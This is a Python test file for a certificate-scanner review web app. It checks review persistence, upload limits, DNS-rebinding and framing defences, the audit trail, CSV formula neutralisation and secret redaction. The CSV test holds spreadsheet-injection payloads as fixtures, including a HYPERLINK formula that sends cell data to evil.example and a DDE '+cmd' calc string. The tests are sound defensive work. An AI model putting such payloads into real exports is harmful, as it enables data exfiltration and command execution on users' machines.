"""Nothing lost, nothing leaked (issue 17), on the review page in process: earlier reviews survive a
new session, the page answers only to loopback names and is never framed, the audit says who
(the session's reviewer) and which picture (its SHA-256), the CSV never starts a formula, registry
passwords never reach the page, and a picture given as a results file is named for what it is."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
from dataclasses import replace
from pathlib import Path

import pypdfium2 as pdfium
from fastapi.testclient import TestClient
from PIL import Image
from test_registry import ZHANG_ID, zhang
from test_verify import reading
from typer.testing import CliRunner

from scanner.cli import app
from scanner.fields import CertificateRecord
from scanner.review.desk import ReviewDesk
from scanner.review.terminal import review_in_terminal
from scanner.review.web import create_app

TODAY = dt.date(2026, 11, 27)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class FakeScanner:
    """Reads every picture as 张三's certificate, its name doubtful: no OCR models needed."""

    def __init__(self) -> None:
        self.pages = 0

    def scan_array(self, image, file: str, page: int | None = None) -> CertificateRecord:
        self.pages += 1
        return replace(reading(zhang(), doubtful=("name",)), file=file, page=page)


def desk_at(out: Path, **kw) -> ReviewDesk:
    fake = FakeScanner()
    return ReviewDesk(out, today=TODAY, scanner=lambda: fake, **kw)  # type: ignore[arg-type,return-value]


def client(desk: ReviewDesk, host: str = "127.0.0.1", **settings) -> TestClient:
    from scanner.review.web import WebSettings

    return TestClient(create_app(desk, WebSettings(**settings)), base_url=f"http://{host}")


def png(shade: int = 200) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (shade, shade, shade)).save(out, "PNG")
    return out.getvalue()


def upload(c: TestClient, data: bytes, name: str = "IMG_0001.jpg", kind: str = "image/png"):
    return c.post("/api/uploads", files={"file": (name, data, kind)})


def results_file(path: Path, rows: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def three_results(tmp_path: Path) -> Path:
    rows = [
        replace(reading(zhang(name=name), doubtful=("name",)), file=f"{n}.jpg").to_json()
        for n, name in enumerate(["张三", "李四", "王五"])
    ]
    return results_file(tmp_path / "results.jsonl", rows)


def out_rows(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


# -- 1. nothing lost --------------------------------------------------------------------------------


def test_a_new_session_on_the_same_output_keeps_every_earlier_review(tmp_path):
    out = tmp_path / "reviewed.jsonl"
    first = desk_at(out)
    for item in first.add_results(three_results(tmp_path)):
        first.correct(item.id, "name", "赵六", "陈审核")  # type: ignore[arg-type]
    first.close()

    second = desk_at(out)
    c = client(second)
    assert upload(c, png()).status_code == 200
    rows = out_rows(out)
    assert len(rows) == 4
    assert [r["fields"]["name"]["value"] for r in rows[:3]] == ["赵六", "赵六", "赵六"]
    assert all(r["review"]["audit"][0]["reviewer"] == "陈审核" for r in rows[:3])
    second.close()


def test_reviewing_the_same_results_again_carries_on_the_saved_correction(tmp_path):
    results = three_results(tmp_path)
    out = tmp_path / "results.reviewed.jsonl"
    first = desk_at(out)
    item = first.add_results(results)[1]
    first.correct(item.id, "name", "李思", "陈审核")  # type: ignore[arg-type]
    first.close()

    second = desk_at(out)
    second.add_results(results)
    second.save()
    names = [r["fields"]["name"]["value"] for r in out_rows(out)]
    assert names == ["张三", "李思", "王五"]
    second.close()


def test_the_terminal_review_carries_on_an_earlier_review_of_the_output(tmp_path):
    results = three_results(tmp_path)
    out = tmp_path / "results.reviewed.jsonl"
    answers = iter(["李思"])  # the first field asked (张三's name) corrected, then input ends
    review_in_terminal(
        results, out, lambda _: next(answers, None), lambda _: None, reviewer="陈", today=TODAY
    )
    answers = iter(["", "王武"])  # a second sitting: 李四 kept, 王五 corrected
    review_in_terminal(
        results, out, lambda _: next(answers, None), lambda _: None, reviewer="陈", today=TODAY
    )
    rows = out_rows(out)
    assert [r["fields"]["name"]["value"] for r in rows] == ["李思", "李四", "王武"]


def test_a_second_desk_on_the_same_output_is_refused_in_one_sentence(tmp_path):
    out = tmp_path / "reviewed.jsonl"
    first = desk_at(out)
    try:
        desk_at(out)
    except Exception as exc:
        assert exc.text("en") == (  # type: ignore[attr-defined]
            "another certscan review is already writing reviewed.jsonl; stop it first, or name another --out"
        )
        assert exc.text("zh") == (  # type: ignore[attr-defined]
            "另一个certscan复核正在写入reviewed.jsonl，请先停止它，或用 --out 指定另一个文件"
        )
    else:
        raise AssertionError("a second desk on the same output was not refused")
    first.close()
    desk_at(out).close()  # released on close


# -- 3. pages per upload ------------------------------------------------------------------------------


def blank_pdf(pages: int) -> bytes:
    pdf = pdfium.PdfDocument.new()
    for _ in range(pages):
        pdf.new_page(200, 140)
    out = io.BytesIO()
    pdf.save(out)
    pdf.close()
    return out.getvalue()


def test_a_pdf_of_more_pages_than_allowed_is_refused_before_any_is_read(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl", max_pages=5)
    c = client(desk)
    response = upload(c, blank_pdf(6), "档案.pdf", "application/pdf")
    assert response.status_code == 400
    assert response.json() == {"error": "文件有6页，超过每次上传允许的5页，请拆分成较小的文件"}
    assert desk.scanner().pages == 0  # type: ignore[attr-defined]
    assert list(desk.upload_dir().iterdir()) == [] and c.get("/api/items").json() == {"items": []}
    assert upload(c, blank_pdf(5), "档案.pdf", "application/pdf").json()["pages"] == 5
    desk.close()


def test_fifty_pages_per_upload_by_default(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl")
    response = client(desk).post(
        "/api/uploads?lang=en", files={"file": ("big.pdf", blank_pdf(51), "application/pdf")}
    )
    assert response.json() == {
        "error": "the file has 51 pages, more than the 50 one upload may hold; split it into smaller files"
    }
    desk.close()


# -- 4. DNS rebinding and framing ---------------------------------------------------------------------


def test_on_localhost_only_loopback_host_names_are_answered(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl")
    [item] = desk.add_results(results_file(tmp_path / "r.jsonl", [reading(zhang()).to_json()]))
    rebound = client(desk, host="evil.example:8765")
    refused = rebound.post(f"/api/items/{item.id}/fields/name", json={"value": "李四"})
    assert refused.status_code == 403
    assert refused.json() == {"error": "此复核页面只接受 127.0.0.1 或 localhost 的访问，请用该地址打开"}
    assert rebound.get("/api/export.jsonl").status_code == 403
    assert desk.get(item.id).reviewed.audit == ()
    for host in ("127.0.0.1:8765", "localhost:8765", "[::1]:8765", "localhost"):
        assert client(desk, host=host).get("/api/items").status_code == 200, host
    # On the LAN the token guards the page, whatever name reaches it.
    assert client(desk, host="192.168.1.20:8765", token="t").get("/api/items?token=t").status_code == 200
    desk.close()


def test_no_response_may_be_framed(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl")
    for c, path in (
        (client(desk), "/"),
        (client(desk), "/api/items"),
        (client(desk), "/static/app.js"),
        (client(desk), "/api/items/nope"),
        (client(desk, host="evil.example"), "/"),
    ):
        headers = c.get(path).headers
        assert headers["content-security-policy"] == "frame-ancestors 'none'", path
        assert headers["x-frame-options"] == "DENY", path
    desk.close()


# -- 5. the audit trail ------------------------------------------------------------------------------


def test_the_reviewer_is_the_sessions_and_every_entry_names_its_picture(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl")
    phone_a, phone_b = png(200), png(90)
    c = client(desk, host="192.168.1.20:8765", token="t")
    c.get("/?token=t")
    first = upload(c, phone_a).json()
    assert c.post("/api/reviewer", json={"reviewer": "陈审核"}).json() == {"reviewer": "陈审核"}
    again = c.post("/api/reviewer", json={"reviewer": "王审核"})
    assert again.status_code == 409
    assert again.json() == {"error": "本次会话的复核人已是陈审核，每次会话只能设定一次"}
    # A name in the request body is not who made the correction.
    c.post(f"/api/items/{first['id']}/fields/name", json={"value": "张三", "reviewer": "冒名"})
    other = client(desk, host="192.168.1.20:8765", token="t")
    other.get("/?token=t")
    second = upload(other, phone_b).json()
    other.post(f"/api/items/{second['id']}/fields/name", json={"value": "张三", "reviewer": "冒名"})
    audit = [json.loads(line) for line in desk.audit_file.read_text("utf-8").splitlines()]
    assert [(e["file"], e["reviewer"]) for e in audit] == [("IMG_0001.jpg", "陈审核"), ("IMG_0001.jpg", None)]
    # Two phones' IMG_0001.jpg are told apart by their content.
    assert [e["image_sha256"] for e in audit] == [
        hashlib.sha256(phone_a).hexdigest(),
        hashlib.sha256(phone_b).hexdigest(),
    ]
    desk.close()


def test_the_reviewer_named_at_start_reviews_every_session(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl")
    c = client(desk, reviewer="陈审核")
    assert c.get("/api/config").json()["reviewer"] == "陈审核"
    item = upload(c, png()).json()
    assert c.post("/api/reviewer", json={"reviewer": "冒名"}).status_code == 409
    c.post(f"/api/items/{item['id']}/fields/name", json={"value": "张三", "reviewer": "冒名"})
    [entry] = [json.loads(line) for line in desk.audit_file.read_text("utf-8").splitlines()]
    assert entry["reviewer"] == "陈审核"
    desk.close()


# -- 6. spreadsheets ---------------------------------------------------------------------------------


def test_the_csv_export_never_starts_a_formula_and_keeps_long_numbers_as_text(tmp_path):
    hostile = reading(
        zhang(),
        name='=HYPERLINK("http://evil.example/?"&A1,"点击")',
        institution="+cmd|' /C calc'!A0",
        authority="@SUM(1+1)",
        scope="-2+3",
        practice_place="\t重庆市",
    )
    desk = desk_at(tmp_path / "reviewed.jsonl")
    desk.add_results(results_file(tmp_path / "r.jsonl", [replace(hostile, file="=1+1.jpg").to_json()]))
    text = client(desk).get("/api/export.csv").text.lstrip("\ufeff")
    head, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(head, row, strict=True))
    for cell in row:
        assert not cell.startswith(FORMULA_START), cell
    assert cells["姓名"] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert cells["文件"] == "'=1+1.jpg"
    assert cells["主要执业机构"] == "'+cmd|' /C calc'!A0"
    assert cells["发证机关"] == "'@SUM(1+1)"
    # 18 digits would be rounded by Excel: a zero-width space keeps the number text.
    assert cells["身份证号"] == "\u200b" + ZHANG_ID
    assert cells["证书编码"] == "\u200b" + zhang()["certificate_code"]
    desk.close()


# -- 7. registry passwords and the page's language ---------------------------------------------------


def test_a_registry_password_never_reaches_the_page_and_its_message_is_chinese(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl", registry="http://hr:S3cret@127.0.0.1:9/api")
    [item] = desk.add_results(results_file(tmp_path / "r.jsonl", [reading(zhang()).to_json()]))
    c = client(desk)
    zh = c.post(f"/api/items/{item.id}/verify")
    en = c.post(f"/api/items/{item.id}/verify?lang=en")
    assert zh.status_code == en.status_code == 503
    assert "S3cret" not in zh.text and "S3cret" not in en.text and "hr:" not in zh.text
    message = zh.json()["error"]
    assert message.startswith("无法使用登记库") and "127.0.0.1:9" in message
    # No English sentence inside the Chinese one: only the address is in Latin letters.
    assert not any(word in message for word in ("registry", "cannot", "refused", "error", "no "))
    desk.close()


def test_a_missing_registry_is_said_in_the_pages_language(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl", registry=str(tmp_path / "missing.db"))
    [item] = desk.add_results(results_file(tmp_path / "r.jsonl", [reading(zhang()).to_json()]))
    message = client(desk).post(f"/api/items/{item.id}/verify").json()["error"]
    assert message.startswith("无法使用登记库") and "no registry" not in message
    desk.close()


def test_a_mistyped_date_names_its_field_once(tmp_path):
    desk = desk_at(tmp_path / "reviewed.jsonl")
    [item] = desk.add_results(results_file(tmp_path / "r.jsonl", [reading(zhang()).to_json()]))
    c = client(desk)
    checked = c.post(f"/api/items/{item.id}/check", json={"values": {"issue_date": "2007/2/30"}}).json()
    # The reviewer sees the value typed, unmasked, and the label once.
    [reason] = checked["fields"]["issue_date"]["reasons"]
    assert reason == "发证日期（2007/2/30不是有效日期）"
    assert checked["failed"] == [reason]
    english = c.post(f"/api/items/{item.id}/check?lang=en", json={"values": {"issue_date": "2007/2/30"}})
    [failed] = english.json()["failed"]
    assert failed == "issue date (2007/2/30 is no real date)"
    desk.close()


# -- 8. a picture where a results file is expected ----------------------------------------------------


def test_a_photo_given_as_results_is_named_a_picture_with_what_to_do(tmp_path):
    photo = tmp_path / "photo.jpg"
    Image.new("RGB", (32, 32), "white").save(photo, "JPEG")
    result = CliRunner().invoke(app, ["review", str(photo), "--out", str(tmp_path / "o.jsonl")])
    assert result.exit_code == 2
    assert result.stderr == (
        "certscan: photo.jpg：是图片或PDF，不是识别结果文件："
        "请用 certscan review --serve 打开复核页面上传它，或先用 certscan scan --json 识别\n"
    )
    english = CliRunner().invoke(app, ["review", str(photo), "--lang", "en"])
    assert english.stderr == (
        "certscan: photo.jpg: is a picture or PDF, not a results file: upload it on the review page "
        "(certscan review --serve) or read it first with certscan scan --json\n"
    )
    binary = tmp_path / "results.jsonl"
    binary.write_bytes(b"\xff\xfe\x00garbage" * 10)
    said = CliRunner().invoke(app, ["review", str(binary), "--lang", "en"]).stderr
    assert "codec" not in said and "utf-8" not in said.lower()
    assert said.startswith("certscan: results.jsonl: is not a results file (it is not text)")
